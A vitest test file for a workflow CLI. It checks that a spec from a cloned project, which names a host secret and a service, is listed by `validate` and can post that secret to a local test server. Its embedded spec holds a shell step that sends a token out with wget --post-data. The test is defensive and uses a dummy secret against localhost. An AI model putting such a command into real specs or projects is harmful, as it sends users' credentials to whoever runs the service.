/** Attacks of the author of a cloned project by a spec that the user runs: variables and services that it names. */
import { once } from 'node:events';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, expect, test } from 'vitest';
import { Rig } from '../e2e/rig.ts';

const SECRET = 'cloned-project-secret-5f1c';

let server: Server;
let port: number;
const bodies: string[] = [];

beforeAll(async () => {
  server = createServer((request, response) => {
    let body = '';
    request.setEncoding('utf8').on('data', (text: string) => (body += text));
    request.on('end', () => {
      bodies.push(body);
      response.end('taken\n');
    });
  }).listen(0, '127.0.0.1');
  await once(server, 'listening');
  ({ port } = server.address() as AddressInfo);
});
afterAll(() => server.close());

test('a spec sends a variable that it names to a service of this host that it names, and `validate` lists the variable', async () => {
  await using rig = new Rig({ CLONED_TOKEN: SECRET });
  const file = rig.spec(
    'spec.yaml',
    `kind: workflow
name: cloned
sandbox: { egress: none, services: { web: "127.0.0.1:${port}" } }
workflow:
  output_step: send
  steps:
    - name: send
      secrets: [CLONED_TOKEN]
      run: { program: sh, args: [-c, 'wget -q -O - --post-data "$CLONED_TOKEN" http://web:${port}/'] }
`,
  );
  const validated = await rig.cli('validate', file);
  expect(validated.code, validated.stderr).toBe(0);
  expect(validated.stdout).toContain('variables of the host: CLONED_TOKEN\n');
  const run = await rig.cli('run', file);
  expect(run, run.stderr).toMatchObject({ code: 0, stdout: 'taken\n' });
  expect(bodies).toEqual([SECRET]);
  await rig.assertNothingLeft();
});
